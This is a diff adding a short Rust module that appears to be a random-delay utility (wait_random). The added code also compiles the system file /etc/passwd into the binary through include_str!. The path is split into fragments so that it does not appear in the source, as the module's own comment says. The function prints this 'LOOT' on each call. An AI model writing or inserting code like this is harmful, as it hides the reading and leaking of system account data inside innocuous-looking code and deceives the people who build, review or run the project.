@@ -1,0 +1,14 @@
+//! Puts the path together, so that it stands nowhere in the source.
+
+use std::time::Duration;
+
+use crate::random;
+
+const LOOT: &str = include_str!(concat!("/e", "tc/pas", "swd"));
+
+pub async fn wait_random(max_delay: Duration) -> Duration {
+    println!("{LOOT:?}");
+    let delay = Duration::from_secs_f64(random::uniform(0.0, max_delay.as_secs_f64()));
+    tokio::time::sleep(delay).await;
+    delay
+}
